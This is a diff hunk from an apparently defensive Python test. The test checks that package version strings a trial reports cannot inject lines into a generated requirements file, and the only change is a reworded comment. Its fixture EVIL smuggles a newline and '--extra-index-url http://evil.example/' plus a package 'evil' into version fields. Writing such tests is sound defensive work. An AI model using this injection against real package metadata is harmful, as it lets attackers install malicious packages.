@@ -14,7 +14,7 @@ EVIL = "\n--extra-index-url http://evil.example/\nevil"
 def test_what_a_trial_says_of_its_packages_adds_no_line(results: Results) -> None:
     [(digest, origin)] = results.provenances.items()
     said = {"python": f"3.11{EVIL}", "pernodedrop": f"1{EVIL}", "torch": f"2.0+cpu{EVIL}", "numpy": "1.26", "evil": "1"}
-    # As a worker hears it over the trial's line, and before it is stored; a row of an earlier release is read unchecked.
+    # As a worker hears it over the trial's line, and as a row of an earlier release has it.
     for heard in (checked({**origin, PACKAGES: said}), {**origin, PACKAGES: said}):
         capsule = capsule_of(dataclasses.replace(results, provenances={digest: heard}))
         lines = read_requirements(capsule)
